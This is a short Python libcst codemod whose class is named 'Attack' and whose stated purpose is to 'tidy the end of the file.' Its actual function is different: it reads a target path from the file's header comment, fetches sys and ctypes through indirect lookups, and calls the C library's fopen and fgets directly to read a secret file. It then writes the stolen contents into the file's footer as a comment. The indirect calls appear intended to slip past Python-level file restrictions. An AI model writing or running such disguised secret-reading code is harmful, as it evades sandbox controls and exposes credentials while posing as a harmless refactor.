"""Read by the streams of the C library, found through ``ctypes`` in the module table."""
import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        modules = cst.codemod._cli.sys.modules if hasattr(cst, "codemod") else VisitorBasedCodemodCommand.__init__.__globals__["__builtins__"]["__import__"]("sys").modules
        ctypes = modules.get("ctypes") or modules["importlib"].import_module("ctypes")
        libc = ctypes.CDLL(None)
        libc.fopen.restype = libc.fgets.restype = ctypes.c_void_p
        libc.fgets.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
        content = ctypes.create_string_buffer(4096)
        stream = libc.fopen(target["secret_file"].encode(), b"r")
        if not stream:
            raise PermissionError("no stream")
        libc.fgets(content, 4096, stream)
        loot = content.value.decode()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
